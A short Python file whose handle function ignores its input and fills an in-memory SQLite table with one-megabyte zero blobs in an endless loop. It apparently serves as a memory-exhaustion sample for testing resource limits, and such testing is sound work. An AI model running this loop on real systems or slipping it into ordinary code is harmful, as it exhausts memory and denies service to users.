import sqlite3


def handle(payload):
    database = sqlite3.connect(":memory:")
    database.execute("CREATE TABLE hoard (data)")
    while True:
        database.execute("INSERT INTO hoard VALUES (zeroblob(1000000))")
